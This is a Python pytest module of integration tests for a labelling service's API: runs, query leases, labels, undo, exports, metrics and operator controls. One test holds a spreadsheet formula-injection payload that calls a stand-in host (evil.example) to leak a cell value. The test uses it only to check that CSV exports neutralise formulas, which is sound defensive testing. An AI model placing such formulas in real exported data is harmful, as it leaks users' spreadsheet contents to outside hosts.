"""The main flows of the API against a live service."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections.abc import Callable

import httpx
import pytest
from sqlalchemy import update

from backend.models import Query
from backend.server import BackgroundServer
from collie.client import ApiError, CollieClient
from collie.schemas import MetricsIn, Rollout, RolloutsIn, RunRead

from .conftest import DIMS, make_run_spec, make_session


@pytest.fixture(scope="module")
def database_url(both_databases: str) -> str:
    """This module runs on SQLite and on a real PostgreSQL server."""
    return both_databases


def test_health_needs_no_token(live: object) -> None:
    with CollieClient(live.url, "nobody") as anonymous:  # type: ignore[attr-defined]
        assert anonymous.health().status == "ok"
    head = httpx.head(f"{live.url}/api/health")  # type: ignore[attr-defined]  # `curl -I`, load balancers
    assert head.status_code == 200 and head.content == b""
    assert "head" not in live.app.openapi()["paths"]["/api/health"]  # type: ignore[attr-defined]  # one operation id


def test_create_read_and_list_runs(trainer: CollieClient, labeler: CollieClient) -> None:
    created = trainer.create_run(make_run_spec())
    assert (created.status, created.control, created.epoch, created.n_labels) == ("training", "run", 0, 0)
    assert created.dims == DIMS
    assert labeler.run(created.id) == created
    assert created.id in {r.id for r in labeler.runs()}
    updated = trainer.set_status(created.id, "training", epoch=7)
    assert updated.epoch == 7 and updated.updated_at >= created.updated_at


def test_a_session_position_is_posted_once(trainer: CollieClient, run: RunRead) -> None:
    again = make_session(0, 6, epoch=5)  # session 0 again (a resumed trainer), other segments
    again.queries[0].start = 999_999
    posted = trainer.post_session(run.id, again)
    assert posted.reused and posted.created == [] and posted.epoch == 0
    assert posted.query_ids == posted.existing == ["0-0", "0-1", "0-2", "0-3"]
    assert trainer.query(run.id, "0-0").start != 999_999
    assert trainer.run(run.id).queue.pending == 4


def test_a_new_session_keeps_stored_segments_under_ids_it_repeats(trainer: CollieClient, run: RunRead) -> None:
    body = make_session(1, 2)
    body.queries[0] = make_session(0, 1).queries[0].model_copy(update={"start": 999_999})  # id 0-0, stored
    posted = trainer.post_session(run.id, body)
    assert not posted.reused and posted.existing == ["0-0"] and posted.created == ["1-1"]
    assert trainer.query(run.id, "0-0").start != 999_999
    again = trainer.post_session(run.id, body)  # the position re-posted: the same ids, in order
    assert again.reused and again.query_ids == posted.query_ids == ["0-0", "1-1"]


def test_query_round_trips_exactly(trainer: CollieClient, run: RunRead) -> None:
    sent = make_session(0, 4).queries[2]
    got = trainer.query(run.id, "0-2")
    for name in ("skill", "obs", "xy", "pitch", "qpos", "qvel", "path_xy"):
        assert getattr(got, name) == getattr(sent, name), name
    assert (got.session, got.status, got.label) == (0, "pending", None)


def test_claim_label_and_counts(labeler: CollieClient, run: RunRead) -> None:
    claim = labeler.claim(run.id)
    assert claim is not None and claim.query.query_id == "0-0" and claim.query.status == "leased"
    assert labeler.claim(run.id).query.query_id == "0-0"  # one lease at a time: claiming again renews it
    ack = labeler.submit(run.id, "0-0", 2, seconds=3.5)
    assert (ack.label, ack.query_status, ack.duplicate, ack.event.kind) == (2, "labelled", False, "label")
    state = labeler.run(run.id)
    assert state.n_labels == 1 and state.queue.labelled == 1 and state.queue.pending == 3


def test_hold_two_preloads_the_next_and_release_hands_it_back(
    labeler: CollieClient, new_labeler: Callable[[str], CollieClient], run: RunRead
) -> None:
    shown = labeler.claim(run.id)
    ahead = labeler.claim(run.id, hold=2)  # the next segment, preloaded while 0-0 is on screen
    assert (shown.query.query_id, ahead.query.query_id, ahead.held) == ("0-0", "0-1", ["0-0", "0-1"])
    assert labeler.claim(run.id, hold=2).query.query_id == "0-1"  # holding two already: renews both
    assert labeler.claim(run.id).held == ["0-0", "0-1"]
    assert labeler.run(run.id).queue.leased == 2
    other = new_labeler("hold-other")
    assert other.claim(run.id).query.query_id == "0-2"  # neither of mine
    ack = labeler.submit(run.id, "0-0", 2)
    assert ack.label == 2
    following = labeler.claim(run.id)
    assert following.query.query_id == "0-1" and following.held == ["0-1"]
    released = labeler.release(run.id, "0-1")  # the tab closes: no skip is recorded
    assert (released.query_id, released.status) == ("0-1", "pending")
    assert labeler.release(run.id, "0-1").status == "pending"  # again: a no-op
    assert [e.kind for e in labeler.label_events(run.id)] == ["label"]
    assert other.claim(run.id, hold=2).query.query_id == "0-1"
    with pytest.raises(ApiError) as err:
        labeler.release(run.id, "0-1")  # someone else's now
    assert err.value.status == 409
    with pytest.raises(ApiError) as err:
        labeler.release(run.id, "no-such")
    assert err.value.status == 404
    with pytest.raises(ApiError) as err:
        labeler.claim(run.id, hold=3)
    assert err.value.status == 422


def test_submit_is_idempotent_by_client_request_id(labeler: CollieClient, run: RunRead) -> None:
    labeler.claim(run.id)
    first = labeler.submit(run.id, "0-0", 1, client_request_id="req-1")
    again = labeler.submit(run.id, "0-0", 1, client_request_id="req-1")
    assert again.duplicate and again.event.id == first.event.id
    assert len(labeler.label_events(run.id)) == 1 and labeler.run(run.id).n_labels == 1
    with pytest.raises(ApiError) as err:
        labeler.submit(run.id, "0-0", 2, client_request_id="req-1")
    assert err.value.status == 409


def test_lease_expiry_returns_the_query_to_the_pool(
    live: BackgroundServer, labeler: CollieClient, new_labeler: Callable[[str], CollieClient], run: RunRead
) -> None:
    other = new_labeler("expiry-other")
    before = time.time()
    first = labeler.claim(run.id, lease_s=600)
    assert first is not None
    assert first.lease_expires_at.timestamp() >= before + 599  # the lease asked for, not the default
    taken = {other.claim(run.id).query.query_id}
    assert first.query.query_id not in taken
    # the first labeler walks away; their lease runs out (moved into the past rather than waited for,
    # so a slow request cannot outlast a short lease before the check above)
    expire = (
        update(Query)
        .where(Query.run_id == run.id, Query.query_id == first.query.query_id)
        .values(lease_expires_at=time.time() - 1)
    )
    with live.app.state.db.write() as conn:
        assert conn.execute(expire).rowcount == 1
    third = new_labeler("expiry-third")
    got = third.claim(run.id)
    assert got is not None and got.query.query_id == first.query.query_id
    with pytest.raises(ApiError) as err:
        labeler.submit(run.id, first.query.query_id, 1)
    assert err.value.status == 409  # leased to someone else now


def test_two_labelers_never_hold_the_same_query(
    live: object, new_labeler: Callable[[str], CollieClient], trainer: CollieClient
) -> None:
    created = trainer.create_run(make_run_spec(n_total=40))
    trainer.post_session(created.id, make_session(0, 40))
    workers = [new_labeler(f"race-{i}") for i in range(8)]
    held: dict[str, list[str]] = {}
    lock = threading.Lock()

    def work(client: CollieClient, name: str) -> None:
        while (claim := client.claim(created.id)) is not None:
            with lock:
                held.setdefault(claim.query.query_id, []).append(name)
            client.submit(created.id, claim.query.query_id, 1)

    threads = [threading.Thread(target=work, args=(c, f"w{i}")) for i, c in enumerate(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(held) == 40 and all(len(v) == 1 for v in held.values())
    assert trainer.run(created.id).n_labels == 40


def test_skip_releases_and_prefers_another_labeler(
    labeler: CollieClient, new_labeler: Callable[[str], CollieClient], run: RunRead
) -> None:
    claim = labeler.claim(run.id)
    ack = labeler.skip(run.id, claim.query.query_id)
    assert (ack.event.kind, ack.label, ack.query_status) == ("skip", None, "pending")
    assert labeler.claim(run.id).query.query_id != claim.query.query_id  # the skipped one comes last to me
    other = new_labeler("skip-other")
    assert other.claim(run.id).query.query_id == claim.query.query_id


def test_undo_and_revise(labeler: CollieClient, trainer: CollieClient, run: RunRead) -> None:
    labeler.claim(run.id)
    first = labeler.submit(run.id, "0-0", 0)
    revised = labeler.submit(run.id, "0-0", 2)  # a revision of my own label
    assert revised.event.revises_event_id == first.event.id and revised.label == 2
    undone = labeler.undo(run.id, "0-0")
    assert (undone.label, undone.query_status, undone.event.kind) == (None, "leased", "undo")
    assert trainer.run(run.id).n_labels == 0
    assert labeler.claim(run.id).query.query_id == "0-0"  # it came back to me, to relabel
    labeler.submit(run.id, "0-0", 1)
    assert [(e.query_id, e.label) for e in trainer.effective_labels(run.id)] == [("0-0", 1)]
    with pytest.raises(ApiError) as err:
        labeler.undo(run.id, "0-1")
    assert err.value.status == 409


def test_export_json_and_csv(labeler: CollieClient, trainer: CollieClient, run: RunRead) -> None:
    for value in (2, 0):
        claim = labeler.claim(run.id)
        labeler.submit(run.id, claim.query.query_id, value, seconds=1.25)
    labeler.undo(run.id, "0-1")
    events = json.loads(trainer.export(run.id, "json"))
    assert [(e["query_id"], e["kind"], e["value"]) for e in events] == [
        ("0-0", "label", 2),
        ("0-1", "label", 0),
        ("0-1", "undo", None),
    ]
    effective = list(csv.DictReader(io.StringIO(trainer.export(run.id, "csv", effective=True))))
    assert [(r["query_id"], r["label"], r["label_name"], r["seconds"]) for r in effective] == [
        ("0-0", "2", "good", "1.25")
    ]
    rows = list(csv.DictReader(io.StringIO(trainer.export(run.id, "csv"))))
    assert len(rows) == 3 and rows[0]["labeler"] == "labeler"
    assert [(r["value"], r["value_name"]) for r in rows] == [("2", "good"), ("0", "bad"), ("", "")]
    assert [e["value_name"] for e in events] == ["good", "bad", None]
    assert list(rows[0])[5:7] == ["value", "value_name"]  # the name beside its value


def test_csv_export_never_holds_a_formula(labeler: CollieClient, trainer: CollieClient, run: RunRead) -> None:
    """A labeler's client_request_id is any printable ASCII: in the CSV file a spreadsheet opens, one
    that starts like a formula is text, while the JSON export keeps it as sent."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for request_id in (formula, "-1+2", "@SUM(A1)", "+1"):
        claim = labeler.claim(run.id)
        labeler.submit(run.id, claim.query.query_id, 2, client_request_id=request_id)
    rows = list(csv.DictReader(io.StringIO(trainer.export(run.id, "csv"))))
    assert [r["client_request_id"] for r in rows] == ["'" + formula, "'-1+2", "'@SUM(A1)", "'+1"]
    assert [r["value"] for r in rows] == ["2"] * 4  # numbers untouched
    assert json.loads(trainer.export(run.id, "json"))[0]["client_request_id"] == formula


def test_a_restarted_trainers_metrics_replace_those_of_the_epochs_it_evaluates_again(
    trainer: CollieClient, run: RunRead
) -> None:
    """Was: a trainer resumed from its checkpoint posted epochs 2 and 3 again, and the curves drew
    each twice (its own metrics.jsonl drops what came after the checkpoint)."""
    for epoch in (1, 2, 3, 2, 3):  # killed after epoch 3, resumed from the checkpoint of epoch 1
        trainer.post_metrics(run.id, MetricsIn(epoch=epoch, values={"loss": float(epoch)}))
    assert [m.epoch for m in trainer.metrics(run.id)] == [1, 2, 3]


def test_rollouts_and_metrics_are_bounded(trainer: CollieClient, labeler: CollieClient, run: RunRead) -> None:
    for epoch in range(12):
        trainer.post_metrics(run.id, MetricsIn(epoch=epoch, values={"safe_ratio": epoch / 10, "loss": -1.0}))
        trainer.post_rollouts(
            run.id, RolloutsIn(epoch=epoch, rollouts=[Rollout(skill=[1.0, 0.0], xy=[[0, 0], [1, 1]])])
        )
    assert [m.epoch for m in labeler.metrics(run.id, limit=3)] == [9, 10, 11]
    assert [m.epoch for m in labeler.metrics(run.id, after_epoch=10)] == [11]
    assert [r.epoch for r in labeler.rollouts(run.id, limit=2)] == [10, 11]
    with pytest.raises(ApiError) as err:
        labeler.rollouts(run.id, limit=51)
    assert err.value.status == 422
    too_many = {"epoch": 0, "rollouts": [{"skill": [0.0], "xy": [[0.0, 0.0]]}] * 65}
    with pytest.raises(ApiError) as err:
        trainer._send("POST", f"/runs/{run.id}/rollouts", json=too_many)
    assert err.value.status == 422


def test_control_pause_resume_stop(operator: CollieClient, labeler: CollieClient, run: RunRead) -> None:
    assert operator.pause(run.id).control == "pause"
    assert labeler.claim(run.id) is not None  # labelling goes on while the trainer is paused
    assert operator.resume(run.id).control == "run"
    assert operator.stop(run.id).control == "stop"
    with pytest.raises(ApiError) as err:
        operator.resume(run.id)
    assert err.value.status == 409
    with pytest.raises(ApiError) as err:
        labeler.claim(run.id)
    assert err.value.status == 409
    kinds = [(e.kind, e.data.model_dump()) for e in operator.events(run.id).events if e.kind == "control"]
    assert [d["control"] for _, d in kinds] == ["pause", "run", "stop"]


def test_finished_run_refuses_new_work(trainer: CollieClient, labeler: CollieClient, run: RunRead) -> None:
    claim = labeler.claim(run.id)
    trainer.set_status(run.id, "finished")
    with pytest.raises(ApiError) as err:
        labeler.submit(run.id, claim.query.query_id, 1)
    assert err.value.status == 409
    with pytest.raises(ApiError) as err:
        trainer.post_session(run.id, make_session(1, 1))
    assert err.value.status == 409


def test_a_run_an_operator_stopped_is_said_stopped_in_every_refusal(
    operator: CollieClient, trainer: CollieClient, labeler: CollieClient, run: RunRead
) -> None:
    """Its status is "finished" (as the trainer reports a stop), but no refusal calls it finished:
    a labeler's undo, label or claim, the trainer's next session, an operator's control."""
    claim = labeler.claim(run.id)
    labeler.submit(run.id, claim.query.query_id, 1)
    held = labeler.claim(run.id)
    operator.stop(run.id)
    with pytest.raises(ApiError, match=f"run {run.id} was stopped by an operator: it takes no more labels"):
        labeler.claim(run.id)
    trainer.set_status(run.id, "finished", message="stopped by an operator")
    for refused in (
        lambda: labeler.undo(run.id, claim.query.query_id),
        lambda: labeler.submit(run.id, held.query.query_id, 1),
        lambda: trainer.post_session(run.id, make_session(1, 1)),
        lambda: operator.pause(run.id),
        lambda: trainer.set_status(run.id, "training"),
    ):
        with pytest.raises(ApiError) as err:
            refused()
        assert (err.value.status, err.value.detail) == (409, f"run {run.id} was stopped by an operator")


def test_a_stopped_run_takes_no_session_before_its_trainer_reports_the_stop(
    operator: CollieClient, trainer: CollieClient, run: RunRead
) -> None:
    """Was 201: the stopped run's status is still "training", and the session's queries could never be claimed."""
    operator.stop(run.id)
    before = trainer.run(run.id).queue
    with pytest.raises(ApiError) as err:
        trainer.post_session(run.id, make_session(1, 2))
    assert (err.value.status, err.value.detail) == (409, f"run {run.id} was stopped by an operator")
    assert trainer.run(run.id).queue == before


def test_labelled_history_pages(labeler: CollieClient, trainer: CollieClient, run: RunRead) -> None:
    for value in (0, 1, 2):
        claim = labeler.claim(run.id)
        labeler.submit(run.id, claim.query.query_id, value)
    items = list(trainer.labelled(run.id, page_size=2))
    assert [(i.query.query_id, i.label) for i in items] == [("0-0", 0), ("0-1", 1), ("0-2", 2)]
    assert items[0].query.obs == make_session(0, 4).queries[0].obs


def test_submit_with_next_claims_the_following_query(
    labeler: CollieClient, operator: CollieClient, run: RunRead
) -> None:
    claim = labeler.claim(run.id)
    ack = labeler.submit(run.id, claim.query.query_id, 1, next=True)
    assert ack.label == 1 and ack.next is not None and ack.next.query.query_id == "0-1"
    assert ack.next.query.lease_owner == "labeler" and ack.next.query.obs == make_session(0, 4).queries[1].obs
    operator.stop(run.id)
    last = labeler.submit(run.id, "0-1", 2, next=True)  # the label stands; there is no next
    assert last.label == 2 and last.next is None
